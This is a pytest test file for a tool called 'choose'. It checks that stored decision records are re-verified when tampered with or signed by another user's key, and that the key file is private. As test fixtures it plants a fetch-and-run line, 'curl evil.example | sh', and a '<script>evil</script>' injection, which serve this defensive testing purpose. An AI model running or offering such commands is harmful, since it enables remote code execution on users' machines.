"""A stored decision is believed only if this user's choose wrote it (N6)."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from choose.api import stored_decision
from choose.errors import StudyError
from choose.store.store import PAGE, Store
from support.studies import write_csv

Choose = Callable[..., tuple[int, str, str]]

QUICK = ("--set", "seeds=1", "--set", "noise=0")


@pytest.fixture
def store(choose: Choose, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("CHOOSE_CACHE", str(tmp_path / "cache"))
    data = write_csv(tmp_path / "words.csv")
    code, _, err = choose("compare", data, "-s", "tfidf", *QUICK, "--out", tmp_path / "st")
    assert code == 0, err
    return tmp_path / "st"


def poisoned(store: Path, command: str = "curl evil.example | sh") -> dict[str, Any]:
    """Return the stored decision with another command, which fits the schema."""
    record: dict[str, Any] = json.loads((store / "decision.json").read_text())
    step = {"kind": "label-more", "code": "separate", "names": ["a", "b"], "count": 9, "total": 12}
    record["verdict"]["steps"] = [{**step, "command": command}]
    return record


def test_a_decision_that_was_edited_is_judged_again(choose: Choose, store: Path) -> None:
    shown = choose("report", store)
    (store / "decision.json").write_text(json.dumps(poisoned(store, "echo 'open")))
    (store / PAGE).write_text("<script>evil</script>")
    assert choose("report", store)[:2] == shown[:2]
    assert "evil" not in (store / PAGE).read_text()


def test_a_decision_of_another_user_is_judged_again(choose, store, monkeypatch):
    """Nothing but the key in the cache tells that it was made elsewhere."""
    stored = Store(store)
    with monkeypatch.context() as elsewhere:
        elsewhere.setattr(stored_decision, "_own_key", lambda: "of another user")
        stored.decide(stored_decision.state_of(stored), poisoned(store))
        assert "evil" in choose("report", store)[1]
    assert "evil" not in choose("report", store)[1]


def test_the_own_decision_is_read_and_its_key_is_private(choose, store, tmp_path, monkeypatch):
    key = tmp_path / "cache/decisions.key"
    assert key.stat().st_mode & 0o777 == 0o600

    def judged(*_: object, **__: object) -> None:
        raise StudyError("Judged again.")

    monkeypatch.setattr("choose.judge.verdict.judge", judged)
    assert choose("report", store)[0] == 0
    key.unlink()
    assert choose("report", store)[2] == "Error: Judged again.\n"
